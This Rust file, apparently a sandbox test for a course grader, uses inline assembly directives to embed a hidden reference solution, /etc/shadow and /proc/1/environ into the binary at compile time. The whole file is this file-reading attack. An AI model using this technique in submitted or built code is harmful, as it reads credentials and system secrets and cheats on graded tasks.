//! The assembler opens files as well.

std::arch::global_asm!(
    ".section .rodata",
    "stolen: .incbin \"@REPO@/solutions/09-echo-iterative/src/server.rs\"",
    "secret: .incbin \"/etc/shadow\"",
    ".include \"/proc/1/environ\"",
);

pub fn run(_port: u16) -> sockets::Result<()> {
    Ok(())
}
